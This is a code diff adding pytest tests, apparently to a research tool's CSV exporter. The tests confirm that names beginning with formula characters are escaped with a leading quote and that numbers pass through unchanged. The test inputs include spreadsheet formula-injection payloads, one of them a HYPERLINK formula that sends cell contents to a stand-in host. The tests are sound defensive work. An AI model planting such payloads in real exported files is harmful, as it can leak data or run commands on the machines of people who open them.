@@ -158,3 +158,24 @@ def test_markdown_keeps_its_columns_whatever_a_name_holds() -> None:
         markdown([PaperTable(headings=("a", "b"), rows=(("x|y", "z\\"),))])
         == "| a | b |\n|---|---|\n| x\\|y | z\\\\ |\n"
     )
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://x/"&A1,"x")', "+1+cmd", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "-", "--1"]
+)
+def test_a_name_is_no_formula_of_a_spreadsheet(results: dict[str, Any], name: str) -> None:
+    results["folds"][0]["name"] = name
+    _, first, *_ = csv.reader(io.StringIO(results_csv(results), newline=""))
+    assert first[1] == "'" + name.replace("\r", " ")
+    variant = {**ABLATION["variants"][0], "name": name}
+    _, first, *_ = csv.reader(io.StringIO(ablation_csv({**ABLATION, "variants": [variant]}), newline=""))
+    assert first[0] == "'" + name.replace("\r", " ")
+    grid = {**GRID, "axes": {name: ["1", "0.1"]}, "points": []}
+    assert next(csv.reader(io.StringIO(grid_csv(grid), newline="")))[0] == "'" + name.replace("\r", " ")
+
+
+@pytest.mark.parametrize("value", ["-1", "+0.5", "-1e-3", "1"])
+def test_a_number_stays_a_number(value: str) -> None:
+    points = [{**GRID["points"][0], "values": {"loss.alpha": value}, "validation_ua": -0.5}]
+    _, first = csv.reader(io.StringIO(grid_csv({**GRID, "points": points})))
+    assert first[:2] == [value, "-0.5"]
